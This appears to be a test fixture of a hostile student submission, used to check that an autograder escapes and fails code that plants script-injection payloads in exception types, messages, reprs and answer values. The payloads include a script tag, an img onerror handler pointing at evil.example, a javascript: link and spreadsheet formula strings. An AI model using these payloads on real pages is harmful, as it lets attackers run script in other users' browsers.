# tries: scripts in exception types, messages, values and reprs, which checks quote
# must: softmax_rows=failed total_bytes=failed sizes=failed|partly bytes_of=failed running_mean=failed quiz_1=failed
#   engine=failed|not_attempted *=not_attempted
# gains: 0
# flags: page

# %% exercise="softmax_rows"
run = "document.title='owned-by-a-student'"
markup = f"</pre></script><script>{run}</script><img src='http://evil.example/owned-by-a-student' onerror=\"{run}\">"

def softmax_rows(x):
    raise type(markup, (Exception,), {"__module__": markup})(markup)

# %% exercise="total_bytes"
total_bytes = markup

# %% exercise="sizes"
sizes = {markup: markup, "float64": markup}

# %% exercise="bytes_of"
class Shown:
    def __repr__(self):
        return markup
    __str__ = __repr__
    def _repr_html_(self):
        return markup

def bytes_of(name):
    return Shown()

# %% exercise="running_mean"
def running_mean(numbers):
    raise ValueError(markup + "`[x](javascript:alert(1))`" + "\n=1+1\n@SUM(1)\t=2")

# %% exercise="engine"
raise RuntimeError(markup)

# %% exercise="quiz_1"
quiz_1 = lesson.quiz("quiz_1")
quiz_1_answers = {"rows": markup, markup: "b"}
